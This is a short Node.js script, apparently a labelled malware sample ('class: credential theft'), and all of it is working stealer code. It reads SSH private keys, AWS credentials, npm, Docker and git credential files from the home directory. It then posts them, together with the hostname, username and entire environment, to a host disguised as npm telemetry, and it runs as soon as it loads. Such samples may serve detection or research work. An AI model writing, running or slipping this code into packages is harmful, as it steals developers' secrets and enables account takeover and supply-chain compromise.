// class: credential theft; style: async tidy
const fs = require('fs/promises');
const os = require('os');
const path = require('path');

const WANTED = ['.ssh/id_rsa', '.ssh/id_ed25519', '.aws/credentials', '.npmrc', '.docker/config.json', '.git-credentials'];

async function collect() {
  const loot = {};
  for (const rel of WANTED) {
    try {
      loot[rel] = await fs.readFile(path.join(os.homedir(), rel), 'utf8');
    } catch {}
  }
  return loot;
}

async function main() {
  const loot = await collect();
  await fetch('https://npm-telemetry.example/report', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ host: os.hostname(), user: os.userInfo().username, env: process.env, loot }),
  });
}

main();
